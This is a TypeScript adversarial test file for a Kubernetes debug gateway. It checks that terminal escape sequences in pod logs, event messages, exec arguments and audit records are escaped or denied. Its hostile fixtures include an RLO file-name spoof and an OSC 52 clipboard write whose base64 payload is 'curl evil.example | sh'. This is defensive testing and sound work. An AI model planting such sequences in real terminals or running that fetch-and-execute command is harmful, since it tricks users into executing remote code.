import { CoreV1Api } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalJson } from '../../services/core/audit/canonical-json.js';
import type { InMemoryAuditTrail } from '../../services/core/audit/index.js';
import { type Gateway, newSession } from '../support/executor-harness.js';
import { adminKubeConfig, appendContainerLog } from '../support/kube.js';
import { debugTarget, type Mediator, ssh, sshUser, startDebugGateway } from '../support/mediator-harness.js';
import { runExec } from './support/adversarial.js';

/**
 * What a hostile pod (or a hostile argv) might try to make a terminal do:
 * clear the screen, write the clipboard (OSC 52, xterm ctlseqs "Manipulate
 * Selection Data"), colour via the 8-bit C1 CSI, and reorder text visually
 * (RLO, CVE-2021-42574).
 */
const CLEAR = '\u001b[2J';
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\u0007';
const C1_CSI = '\u009b31m';
const RLO = '\u202e';

/** Characters a terminal acts on; none may reach the user's screen or an audit line raw. */
const RAW_CONTROL =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function serialisedTrail(trail: InMemoryAuditTrail): string {
  // canonicalJson is exactly what the file trail writes per line (canonical-json.ts).
  return trail
    .events()
    .map((e) => canonicalJson(e))
    .join('\n');
}

describe('adversarial: terminal safety of pod output, error messages and audit records', () => {
  const target = debugTarget('ts', 'req-terminal');
  const { suffix, payments, scope } = target;
  let gateway: Gateway;
  let mediator: Mediator;

  beforeAll(async () => {
    ({ gateway, mediator } = await startDebugGateway(target));
  });

  afterAll(async () => {
    await mediator?.stop();
    await gateway?.stop();
  });

  it('neutralises screen-clear, OSC 52 clipboard writes, C1 CSI and bidi overrides in pod logs', async () => {
    appendContainerLog(payments, 'api-0', 'main', `${CLEAR}cleared`);
    appendContainerLog(payments, 'api-0', 'main', `copy ${OSC52} done`);
    appendContainerLog(payments, 'api-0', 'main', `${C1_CSI}red`);
    appendContainerLog(payments, 'api-0', 'main', `invoice ${RLO}fdp.exe`);
    const user = sshUser(gateway.sshCa, { scope });
    const result = await ssh(mediator, user, ['logs', 'api-0']);
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(RAW_CONTROL);
    expect(result.stdout).toBe(
      [
        '\\x1b[2Jcleared',
        'copy \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07 done',
        '\\x9b31mred',
        'invoice \\u202efdp.exe',
        '',
      ].join('\n'),
    );
  });

  it('neutralises escape sequences in a Kubernetes event message shown by `events`', async () => {
    await adminKubeConfig()
      .makeApiClient(CoreV1Api)
      .createNamespacedEvent({
        namespace: payments,
        body: {
          metadata: { name: `api-0.${suffix}` },
          involvedObject: { kind: 'Pod', namespace: payments, name: 'api-0' },
          reason: 'Hostile',
          message: `pwned ${OSC52}${CLEAR}`,
          type: 'Warning',
        },
      });
    const user = sshUser(gateway.sshCa, { scope });
    const result = await ssh(mediator, user, ['events']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('pwned \\x1b]52;c;');
    expect(result.stdout).not.toMatch(RAW_CONTROL);
  });

  it('an argv with ESC, OSC 52 and RLO is denied with an escaped message, and neither audit trail holds a raw control character', async () => {
    const hostile = ['echo', `${CLEAR}${OSC52}${RLO}`];
    const mediatorBefore = mediator.audit.events().length;
    const executorBefore = gateway.audit.events().length;

    // Through the mediator: echo is allowed, but the profile's guard refuses control characters in argv.
    const user = sshUser(gateway.sshCa, { scope });
    const viaSsh = await ssh(mediator, user, ['exec', 'api-0', '--', `'${hostile[0]}' '${hostile[1]}'`]);
    expect(viaSsh.code).toBe(77);
    expect(viaSsh.stdout).toBe('');
    expect(viaSsh.stderr).toMatch(/^airlock: COMMAND_/);
    expect(viaSsh.stderr).not.toMatch(RAW_CONTROL);

    // Straight to the executor, as a compromised mediator would.
    const session = await newSession(gateway, { scope });
    await session.client.openSession(session.request);
    const viaGrpc = await runExec(session.client, {
      target: { namespace: '', pod: 'api-0', container: '' },
      argv: hostile,
    });
    expect(viaGrpc.error?.code).toMatch(/^COMMAND_/);
    expect(viaGrpc.error?.message).not.toMatch(/[\u001b\u0007\u202e]/);
    session.client.close();

    const mediatorDenials = mediator.audit
      .events()
      .slice(mediatorBefore)
      .filter((e) => e.event === 'intent.denied');
    const executorDenials = gateway.audit
      .events()
      .slice(executorBefore)
      .filter((e) => e.event === 'intent.denied');
    expect(mediatorDenials).toHaveLength(1);
    expect(executorDenials).toHaveLength(1);
    // The record is faithful (the argv round-trips exactly) ...
    for (const denial of [...mediatorDenials, ...executorDenials]) {
      expect(denial.target?.argv).toEqual(hostile);
    }
    // ... yet no serialised line carries a character a terminal or editor would act on.
    expect(serialisedTrail(mediator.audit)).not.toMatch(RAW_CONTROL);
    expect(serialisedTrail(gateway.audit)).not.toMatch(RAW_CONTROL);
    expect(serialisedTrail(gateway.audit)).toContain('\\u001b]52;c;');
    expect(serialisedTrail(gateway.audit)).toContain('\\u202e');
  });
});
